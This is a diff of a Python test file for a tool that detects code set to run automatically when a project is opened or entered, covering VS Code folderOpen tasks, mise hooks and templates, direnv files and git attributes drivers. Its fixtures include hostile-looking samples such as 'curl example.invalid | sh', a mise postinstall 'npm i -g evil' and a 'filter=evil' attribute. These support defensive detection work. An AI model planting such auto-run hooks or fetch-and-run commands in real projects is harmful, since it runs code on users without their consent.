@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import os
 import stat
 from pathlib import Path
 
@@ -101,38 +100,6 @@ def test_repositories_nest(project: Project) -> None:
     assert [item.path for item in of_kind(project.review(), "nested-repository")] == ["a/", "a/b/"]
 
 
-def test_gitlink_with_nothing_there(project: Project) -> None:
-    commit = project.git("rev-parse", "HEAD")
-    project.git("update-index", "--add", "--cacheinfo", f"160000,{commit},vendor/lib")
-    (item,) = of_kind(project.review(), "gitlink-without-gitmodules")
-    assert (item.path, item.severity, item.fix) == ("vendor/lib/", "review", None)
-    assert "`git rm --cached vendor/lib` drops the entry" in item.details
-
-
-def test_fifo_in_git_dir(project: Project) -> None:
-    os.mkfifo(project.root / ".git" / "shallow")
-    assert _one(project, "git-dir-link") == (
-        ".git/shallow",
-        "review",
-        "a FIFO in the git directory: git blocks on it when it reads shallow",
-    )
-
-
-def test_operations_without_exec(project: Project) -> None:
-    head = project.git("rev-parse", "HEAD")
-    project.write(".git/MERGE_HEAD", head + "\n")
-    project.write(".git/rebase-merge/git-rebase-todo", f"pick {head[:7]} first\n")
-    found = of_kind(project.review(), "sequencer")
-    assert [(item.path, item.severity) for item in found] == [
-        (".git/MERGE_HEAD", "review"),
-        (".git/rebase-merge", "review"),
-    ]
-    assert found[0].summary == (
-        f"a merge is in progress: your next `git commit` records it (MERGE_HEAD {head[:12]})"
-    )
-    assert "`git merge --abort` if you did not start it" in found[0].details
-
-
 def test_hook_managers_and_an_in_tree_hooks_path(project: Project) -> None:
     _executable(project.write(".husky/pre-commit", "npx lint\n"), "npx lint\n")
     project.write("tools/hooks/pre-push", "make test\n")
@@ -143,12 +110,6 @@ def test_hook_managers_and_an_in_tree_hooks_path(project: Project) -> None:
         "(once husky is installed)",
         "tools/hooks/pre-push": "git runs it as the `pre-push` hook: it is in your hooks directory",
     }
-
-
-def test_info_attributes_sets_a_driver(project: Project) -> None:
-    project.write(".git/info/attributes", "* diff=sneaky\n")
-    assert _one(project, "attributes-driver")[0] == ".git/info/attributes"
-    assert _one(project, "git-info-file")[0] == ".git/info/attributes"
 
 
 def test_a_link_that_climbs_out_through_another_link(project: Project) -> None:
@@ -186,22 +147,19 @@ def test_an_unparsable_tasks_file_that_mentions_folder_open(project: Project) ->
     assert "mentions folderOpen but does not parse" in summary
 
 
-def test_a_linked_worktree_names_the_shared_git_dir(project: Project, tmp_path: Path) -> None:
+def test_a_linked_worktree_reviews_its_own_tree_only(project: Project, tmp_path: Path) -> None:
     tree = tmp_path / "trees" / "feature"
     project.git("worktree", "add", "-q", "-b", "feature", str(tree))
     common = project.root / ".git"
     own = common / "worktrees" / "feature"
-    (common / "objects" / "info" / "alternates").write_text("/srv/objects\n", encoding="utf-8")
     (own / "rebase-merge").mkdir()
     (own / "rebase-merge" / "git-rebase-todo").write_text("x make\n", encoding="utf-8")
+    (common / "info" / "attributes").write_text("* filter=evil\n", encoding="utf-8")
+    (tree / ".envrc").write_text("make\n", encoding="utf-8")
+    (project.root / ".envrc").write_text("make\n", encoding="utf-8")  # another work tree's
     found = review(ReviewTarget(tree, own, common))
-    by_kind = {item.kind: item for item in found}
-    assert by_kind["alternates"].path == str(common / "objects" / "info" / "alternates")
-    fix = by_kind["alternates"].fix
-    assert fix is not None
-    assert fix.relative == ".git/objects/info/alternates"
-    assert by_kind["sequencer"].path == str(own / "rebase-merge")
-    assert by_kind["sequencer"].summary == "`git rebase --continue` runs `make`"
+    assert [(item.kind, item.path) for item in found] == [("envrc", ".envrc")]
+    assert found[0].summary.startswith("direnv runs this script (`make`…)")
 
 
 def test_nested_git_entries(project: Project) -> None:
@@ -217,3 +175,226 @@ def test_nested_git_entries(project: Project) -> None:
         root / "c/.git",
         root / "e/.git",
     ]
+
+
+def test_workspace_files_anywhere_in_the_tree(project: Project) -> None:
+    project.write(
+        "a/b/team.code-workspace",
+        "// a VS Code workspace\n"
+        "{\n"
+        '  "folders": [{"path": "../.."},],\n'
+        '  "settings": {"runOn": "folderOpen"}, /* not a task */\n'
+        '  "tasks": {\n'
+        '    "version": "2.0.0",\n'
+        '    "tasks": [\n'
+        '      {"label": "never", "command": "make never"},\n'
+        '      {"label": "lint", "type": "npm", "script": "lint",\n'
+        '       "runOptions": {"runOn": "folderOpen"}},\n'
+        '      {"label": "sh", "command": "win.cmd", "linux": {"command": "./x.sh",\n'
+        '       "args": ["--quiet", {"value": "a b", "quoting": "strong"}]},\n'
+        '       "runOptions": {"runOn": "folderOpen"},},\n'
+        "    ],\n"
+        "  },\n"
+        "}\n",
+    )
+    found = of_kind(project.review(), "vscode-task")
+    assert sorted((item.path, item.severity, item.summary) for item in found) == [
+        (
+            "a/b/team.code-workspace",
+            "runs-code",
+            "VS Code runs `./x.sh --quiet a b` when you open this workspace "
+            "(in a trusted workspace)",
+        ),
+        (
+            "a/b/team.code-workspace",
+            "runs-code",
+            "VS Code runs `npm run lint` when you open this workspace (in a trusted workspace)",
+        ),
+    ]
+
+
+def test_workspace_files_that_run_nothing(project: Project) -> None:
+    project.write("a.code-workspace", '{"folders": [{"path": "."}], "settings": {}}\n')
+    project.write(  # the tasks.json shape: a workspace's tasks are an object
+        "b.code-workspace",
+        '{"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}\n',
+    )
+    project.write("c.code-workspace.bak", '{"tasks": {"tasks": []}} folderOpen {\n')
+    assert of_kind(project.review(), "vscode-task") == []
+
+
+def test_an_unparsable_workspace_file(project: Project) -> None:
+    project.write("a.code-workspace", '{"tasks": {"tasks": [{"runOptions": {"runOn": "folderOpen"')
+    project.write("b.code-workspace", '{"tasks": {"tasks": [{"label": "x"} {"label": "y"}]}}\n')
+    found = {item.path: item for item in of_kind(project.review(), "vscode-task")}
+    assert found["a.code-workspace"].severity == "runs-code"
+    assert "mentions folderOpen but does not parse" in found["a.code-workspace"].summary
+    assert found["b.code-workspace"].severity == "review"  # VS Code's parser is lenient
+    assert "does not parse" in found["b.code-workspace"].summary
+
+
+def test_a_workspace_linked_to_a_file_in_the_tree(project: Project) -> None:
+    project.write(
+        "notes/data.json",
+        '{"tasks": {"tasks": [{"command": "make", "runOptions": {"runOn": "folderOpen"}}]}}\n',
+    )
+    project.link("app.code-workspace", "notes/data.json")
+    assert _one(project, "vscode-task") == (
+        "app.code-workspace",
+        "runs-code",
+        "VS Code runs `make` when you open this workspace (in a trusted workspace)",
+    )
+
+
+def test_tasks_of_a_folder_below_the_top(project: Project) -> None:
+    """A workspace file may list any folder, and the human may open one on its own."""
+    project.write(
+        "tools/.vscode/tasks.json",
+        '{"tasks": [{"command": "make", "runOptions": {"runOn": "folderOpen"}}]}\n',
+    )
+    assert _one(project, "vscode-task") == (
+        "tools/.vscode/tasks.json",
+        "runs-code",
+        "VS Code runs `make` when you open the folder tools/ (or a workspace with it) "
+        "(in a trusted workspace)",
+    )
+
+
+MISE_EVERYTHING = """\
+min_version = "2024.1.1"
+
+[tools]
+node = { version = "22", postinstall = "npm i -g evil" }
+python = "3.12"
+
+[env]
+_.source = ["env/a.sh", { path = "env/b.sh", redact = true }]
+_.file = ".env"
+BRANCH = "{{ exec(command='git branch --show-current') }}"
+PLAIN = "{{ config_root }}/bin"
+
+[hooks]
+enter = "echo in"
+leave = ["echo out", "echo bye"]
+postinstall = "lefthook install"
+custom = "echo custom"
+
+[hooks.cd]
+shell = "bash"
+script = "source cd.sh"
+
+[tasks.build]
+run = "make {{ exec(command='not a hook') }}"
+"""
+
+
+def test_mise_hooks_sources_and_templates(project: Project) -> None:
+    project.write("sub/.config/mise/config.toml", MISE_EVERYTHING)
+    found = of_kind(project.review(), "mise")
+    assert {item.path for item in found} == {"sub/.config/mise/config.toml"}
+    assert {item.severity for item in found} == {"runs-code"}
+    assert sorted(item.summary for item in found) == sorted(
+        [
+            "mise runs `echo in` (the `enter` hook) when you enter sub/ (mise activated)",
+            "mise runs `echo out` (the `leave` hook) when you leave sub/ (mise activated)",
+            "mise runs `echo bye` (the `leave` hook) when you leave sub/ (mise activated)",
+            "mise runs `source cd.sh` (the `cd` hook) whenever you change directory in sub/"
+            " (mise activated)",
+            "mise runs `lefthook install` (the `postinstall` hook) after it installs tools for"
+            " sub/ (`mise install`)",
+            "mise runs `echo custom` (the `custom` hook) as its `custom` hook in sub/"
+            " (mise activated)",
+            "mise runs `env/a.sh` (_.source) when you enter sub/ (mise activated)",
+            "mise runs `env/b.sh` (_.source) when you enter sub/ (mise activated)",
+            "mise runs `npm i -g evil` (`node`'s postinstall) after it installs `node` for"
+            " sub/ (`mise install`)",
+            "mise runs `git branch --show-current` (a template's exec) when you enter sub/"
+            " (mise activated)",
+        ]
+    )
+    assert all("one you trusted before runs this unasked" in item.details[-1] for item in found)
+
+
+def test_mise_reads_its_config_from_these_places(project: Project) -> None:
+    hook = '[hooks]\nenter = "x"\n'
+    places = {
+        "mise.toml": "the project",
+        ".mise.toml": "the project",
+        "mise.local.toml": "the project",
+        ".mise.local.toml": "the project",
+        "mise.dev.toml": "the project",
+        "mise/config.toml": "the project",
+        ".mise/config.toml": "the project",
+        ".config/mise.toml": "the project",
+        ".config/mise/config.toml": "the project",
+        ".config/mise/config.local.toml": "the project",
+        ".config/mise/conf.d/extra.toml": "the project",
+        "a/b/mise.toml": "a/b/",
+        "a/.config/mise/config.toml": "a/",
+    }
+    for relative in places:
+        project.write(relative, hook)
+    project.write("pyproject.toml", hook)  # not mise's
+    project.write("mise/other.toml", hook)
+    project.write("premise.toml", hook)
+    found = {item.path: item.summary for item in of_kind(project.review(), "mise")}
+    assert found == {
+        relative: f"mise runs `x` (the `enter` hook) when you enter {where} (mise activated)"
+        for relative, where in places.items()
+    }
+
+
+def test_mise_env_as_an_array_of_tables(project: Project) -> None:
+    project.write(
+        "mise.toml",
+        '[[env]]\n_.source = "one.sh"\n\n[[env]]\n_.source = { path = "two.sh" }\nA = "1"\n',
+    )
+    found = sorted(item.summary for item in of_kind(project.review(), "mise"))
+    assert found == [
+        "mise runs `one.sh` (_.source) when you enter the project (mise activated)",
+        "mise runs `two.sh` (_.source) when you enter the project (mise activated)",
+    ]
+
+
+def test_mise_config_that_runs_nothing(project: Project) -> None:
+    project.write(
+        "mise.toml",
+        '[tools]\nnode = "22"\n[env]\n_.file = ".env"\n_.path = "bin"\n'
+        'NAME = "{{ config_root | basename }}"\nexec = "not a template"\n'
+        '[tasks.x]\nrun = "curl example.invalid | sh"\n',
+    )
+    project.write(".tool-versions", "nodejs 22.1.0\npython {{ get_env(name='PY') }}\n")
+    assert of_kind(project.review(), "mise") == []
+
+
+def test_an_unparsable_mise_file_is_to_review(project: Project) -> None:
+    """mise's parser is not this one (TOML 1.1, escapes in quoted keys): look at it."""
+    project.write("mise.toml", '["\\u0068ooks"]\nenter = { script = "x",\n  shell = "sh" }\n')
+    path, severity, summary = _one(project, "mise")
+    assert (path, severity) == ("mise.toml", "review")
+    assert summary.startswith(
+        "mise reads this file when you enter the project (mise activated), but it does not"
+        " parse here ("
+    )
+
+
+def test_templates_in_tool_versions(project: Project) -> None:
+    project.write(".tool-versions", 'nodejs {{ exec(command="curl -s example.invalid") }}\n')
+    assert _one(project, "mise") == (
+        ".tool-versions",
+        "runs-code",
+        "mise runs `curl -s example.invalid` (a template's exec) when you enter the project"
+        " (mise activated)",
+    )
+
+
+def test_a_mise_config_linked_inside_the_tree(project: Project) -> None:
+    project.write("notes/hooks.txt", '[hooks]\nenter = "make"\n')
+    project.link("mise.toml", "notes/hooks.txt")
+    assert _one(project, "mise")[:2] == ("mise.toml", "runs-code")
+
+
+def test_an_ordinary_repository_at_the_top_of_a_project_without_git(tmp_path: Path) -> None:
+    tree = tmp_path / "notes"
+    init_repo(tree)  # as `git init` would leave it: nothing runs
+    assert review(ReviewTarget(tree, None, None)) == []
